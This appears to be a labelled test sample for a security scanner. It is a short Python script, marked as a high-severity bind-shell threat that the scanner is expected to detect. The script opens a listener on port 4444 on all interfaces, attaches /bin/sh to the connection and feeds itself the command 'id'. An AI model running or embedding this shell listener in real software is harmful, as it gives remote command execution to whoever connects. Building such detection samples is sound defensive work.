# expect: detected
# threat: 27 bind shell
# at: either
# family: reverse-shell
# severity: high
# decision: any

import socket
import subprocess
import threading

server = socket.socket()
server.bind(("0.0.0.0", 4444))
server.listen(1)
threading.Timer(0.3, lambda: socket.create_connection(("127.0.0.1", 4444)).sendall(b"id\nexit\n")).start()
server.settimeout(2)
connection, _ = server.accept()
subprocess.run(["/bin/sh"], stdin=connection, stdout=connection, stderr=connection, timeout=2)
